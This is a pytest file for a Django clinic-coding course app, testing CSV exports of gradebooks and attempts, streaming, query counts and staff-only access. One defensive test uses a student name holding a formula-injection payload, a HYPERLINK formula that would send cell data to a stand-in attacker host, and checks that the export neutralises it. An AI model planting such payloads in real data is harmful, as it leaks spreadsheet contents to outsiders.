import csv
import datetime
import io
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from clinic_coder.cohorts.models import Enrollment
from clinic_coder.practice.models import Attempt
from clinic_coder.progress import exports
from clinic_coder.progress.exports import safe_cell
from tests.factories import (
    NOW,
    RIGHT,
    WRONG_CODE,
    WRONG_UNITS,
    assigned,
    graded,
    line,
    make_user,
)


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_it_quotes_a_cell_that_a_spreadsheet_would_run(start):
    assert safe_cell(f"{start}1+2") == f"'{start}1+2"


def test_it_leaves_ordinary_cells_alone():
    assert safe_cell("Alice Archer") == "Alice Archer"
    assert safe_cell("97140 x2") == "97140 x2"
    assert safe_cell(85) == 85
    assert safe_cell("") == ""


def test_it_exports_the_gradebook_one_row_per_student(client, people):
    assignment, (case,) = assigned(cohort=people.cohort_a)
    graded(student=people.alice, case=case, assignment=assignment, lines=RIGHT)
    dora = make_user(username="dora", first_name="Dora", last_name="Dunn")
    Enrollment.objects.create(cohort=people.cohort_a, student=dora)
    client.force_login(people.ines)
    response = client.get(reverse("teach:export_gradebook", args=[people.cohort_a.pk]))
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="cohort-a-gradebook.csv"'
    assert read_csv(response) == [
        ["Student", "Username", "Basics"],
        ["Alice Archer", "alice", "100"],
        ["Dora Dunn", "dora", ""],
    ]


def test_it_exports_every_attempt_with_its_lines_and_errors(client, people):
    assignment, (case,) = assigned(cohort=people.cohort_a, late_policy="marked_late")
    graded(student=people.alice, case=case, assignment=assignment, lines=RIGHT)
    late = assignment.due_at.replace(year=assignment.due_at.year + 1)
    graded(
        student=people.alice,
        case=case,
        assignment=assignment,
        lines=[*WRONG_CODE, line("97010", 1, None, ["GP"])],
        now=late,
    )
    graded(student=people.alice, case=case, lines=RIGHT)  # practice: not in the export
    client.force_login(people.sofia)
    response = client.get(reverse("teach:export_attempts", args=[people.cohort_a.pk]))
    assert response["Content-Disposition"] == 'attachment; filename="cohort-a-attempts.csv"'
    header, first, second = read_csv(response)
    assert header == [
        "Student",
        "Username",
        "Assignment",
        "Case",
        "Submitted at",
        "Late",
        "Score",
        "Lines",
        "Error rule ids",
    ]
    assert first[:4] == ["Alice Archer", "alice", "Basics", "Neck Release"]
    assert first[5:] == ["no", "100", "97140 x2 24 min", ""]
    assert second[5:7] == ["yes", "0"]
    assert second[7] == "97124 x2 24 min; 97010 x1 GP"
    assert "massage-vs-manual-therapy" in second[8].split()


def test_it_defuses_a_formula_in_a_students_name(client, people):
    assignment, (case,) = assigned(cohort=people.cohort_a)
    mallory = make_user(
        username="mallory", first_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    )
    Enrollment.objects.create(cohort=people.cohort_a, student=mallory)
    graded(student=mallory, case=case, assignment=assignment, lines=RIGHT)
    client.force_login(people.ines)
    for name in ("teach:export_gradebook", "teach:export_attempts"):
        rows = read_csv(client.get(reverse(name, args=[people.cohort_a.pk])))
        cells = [cell for row in rows for cell in row]
        assert """'=HYPERLINK("http://evil.example/?x="&A1,"Click")""" in cells
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_it_sends_anonymous_visitors_to_login(client, people):
    for name in ("teach:export_gradebook", "teach:export_attempts"):
        response = client.get(reverse(name, args=[people.cohort_a.pk]))
        assert response.status_code == 302
        assert "/accounts/login/" in response.url


@pytest.mark.parametrize("name", ["teach:export_gradebook", "teach:export_attempts"])
@pytest.mark.parametrize(
    ("persona", "status"),
    [("alice", 403), ("igor", 404), ("sofia", 200), ("ines", 200), ("admin", 200)],
)
def test_it_lets_only_the_cohorts_staff_export(client, people, name, persona, status):
    client.force_login(getattr(people, persona))
    assert client.get(reverse(name, args=[people.cohort_a.pk])).status_code == status


# --- streaming --------------------------------------------------------------------------------


def export_url(name: str, cohort) -> str:
    return reverse(name, args=[cohort.pk])


def enrol(cohort, username: str, first_name: str = "", last_name: str = ""):
    student = make_user(username=username, first_name=first_name, last_name=last_name)
    Enrollment.objects.create(cohort=cohort, student=student)
    return student


@pytest.mark.parametrize("name", ["teach:export_gradebook", "teach:export_attempts"])
def test_it_streams_the_header_first_and_then_the_rows(client, people, name):
    assignment, (case,) = assigned(cohort=people.cohort_a)
    graded(student=people.alice, case=case, assignment=assignment, lines=RIGHT)
    client.force_login(people.ines)
    response = client.get(export_url(name, people.cohort_a))
    assert response.streaming
    assert response["Content-Disposition"].startswith("attachment; filename=")
    pieces = list(response.streaming_content)
    assert pieces[0].decode().count("\r\n") == 1  # the header row, alone
    assert pieces[0].decode().startswith("Student,Username,")
    assert b"alice" in b"".join(pieces[1:])


def attempt_rows_as_they_were(cohort) -> list[list[str]]:
    """The attempts export as it was written before it streamed, from model instances."""
    attempts = (
        Attempt.objects.filter(assignment__cohort=cohort, student__enrollments__active=True)
        .select_related("student", "case", "assignment__case_set")
        .order_by("student__last_name", "student__first_name", "submitted_at", "pk")
    )
    zone = ZoneInfo(cohort.time_zone)
    rows = [exports.ATTEMPT_HEADER]
    for attempt in attempts:
        lines = [
            f"{x.code} x{x.units}"
            + ("" if x.minutes is None else f" {x.minutes} min")
            + ("" if not x.modifiers else " " + " ".join(x.modifiers))
            for x in attempt.lines.all()
        ]
        errors = attempt.findings.filter(severity="error").values_list("rule_id", flat=True)
        rows.append(
            [
                attempt.student.get_full_name() or attempt.student.username,
                attempt.student.username,
                str(attempt.assignment.case_set),
                attempt.case.title,
                attempt.submitted_at.astimezone(zone).isoformat(timespec="seconds"),
                "yes" if attempt.late else "no",
                str(attempt.score),
                "; ".join(lines),
                " ".join(dict.fromkeys(errors)),
            ]
        )
    return rows


def test_it_writes_the_same_attempt_rows_as_before_it_streamed(client, people):
    people.cohort_a.time_zone = "America/Chicago"
    people.cohort_a.save()
    assignment, (first, second) = assigned(
        cohort=people.cohort_a, slugs=("neck-release", "neck-again"), late_policy="marked_late"
    )
    more, (third,) = assigned(cohort=people.cohort_a, slugs=("neck-third",), set_slug="more")
    cleo = enrol(people.cohort_a, "cleo", "Cleo", "Chen")
    nameless = enrol(people.cohort_a, "nameless")
    gone = enrol(people.cohort_a, "gone", "Gone", "Away")
    for minutes, (student, case, lines) in enumerate(
        [
            (cleo, first, RIGHT),
            (people.alice, second, [*WRONG_CODE, line("97010", 1, None, ["GP", "59"])]),
            (nameless, first, WRONG_UNITS),
            (people.alice, first, RIGHT),
            (cleo, second, WRONG_CODE),
            (gone, first, RIGHT),
        ]
    ):
        now = NOW + datetime.timedelta(minutes=minutes)
        graded(student=student, case=case, assignment=assignment, lines=lines, now=now)
    late = assignment.due_at + datetime.timedelta(hours=1)
    graded(student=cleo, case=first, assignment=assignment, lines=WRONG_UNITS, now=late)
    graded(student=people.alice, case=third, assignment=more, lines=[])
    graded(student=people.alice, case=first, lines=RIGHT)  # practice
    graded(student=people.bob, case=first, lines=RIGHT)  # another cohort's student
    Enrollment.objects.filter(student=gone).update(active=False)
    client.force_login(people.ines)

    rows = read_csv(client.get(export_url("teach:export_attempts", people.cohort_a)))

    assert rows == attempt_rows_as_they_were(people.cohort_a)
    # A student without a name sorts by the empty last name, first.
    assert [row[1] for row in rows[1:]] == ["nameless"] + ["alice"] * 3 + ["cleo"] * 3
    assert rows[1][4].endswith(("-05:00", "-06:00"))  # in the cohort's time zone


def test_it_keeps_each_students_attempts_together_when_two_share_a_name(client, people):
    assignment, (case,) = assigned(cohort=people.cohort_a)
    sam_a = enrol(people.cohort_a, "sam-a", "Sam", "Lee")
    sam_b = enrol(people.cohort_a, "sam-b", "Sam", "Lee")
    for minutes, student in enumerate([sam_b, sam_a, sam_b, sam_a]):
        now = NOW + datetime.timedelta(minutes=minutes)
        graded(student=student, case=case, assignment=assignment, lines=RIGHT, now=now)
    client.force_login(people.ines)
    rows = read_csv(client.get(export_url("teach:export_attempts", people.cohort_a)))
    assert [row[1] for row in rows[1:]] == ["sam-a", "sam-a", "sam-b", "sam-b"]


def grade_many(cohort, assignment, case, count: int, start: int) -> None:
    for number in range(start, start + count):
        student = enrol(cohort, f"s{number:03}")
        graded(student=student, case=case, assignment=assignment, lines=WRONG_CODE)


def consume(client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200
    return read_csv(response)


@pytest.mark.parametrize("name", ["teach:export_gradebook", "teach:export_attempts"])
def test_it_runs_the_same_queries_for_3_and_for_30_attempts(
    client, people, django_assert_max_num_queries, name
):
    assignment, (case,) = assigned(cohort=people.cohort_a)
    client.force_login(people.ines)
    url = export_url(name, people.cohort_a)
    grade_many(people.cohort_a, assignment, case, 3, 0)
    with django_assert_max_num_queries(8):
        assert len(consume(client, url)) == 1 + (4 if "gradebook" in name else 3)
    grade_many(people.cohort_a, assignment, case, 27, 3)
    with django_assert_max_num_queries(8):
        assert len(consume(client, url)) == 1 + (31 if "gradebook" in name else 30)


def test_it_reads_lines_and_errors_once_per_chunk_of_attempts(client, people, monkeypatch):
    assignment, (case,) = assigned(cohort=people.cohort_a)
    grade_many(people.cohort_a, assignment, case, 10, 0)
    client.force_login(people.ines)
    url = export_url("teach:export_attempts", people.cohort_a)

    def count_queries(chunk_size: int) -> int:
        monkeypatch.setattr(exports, "CHUNK_SIZE", chunk_size)
        with CaptureQueriesContext(connection) as queries:
            assert len(consume(client, url)) == 1 + 10
        return len(queries)

    # 10 attempts in one chunk, then in three (4 + 4 + 2): two queries more per extra chunk.
    assert count_queries(4) - count_queries(10) == 2 * 2
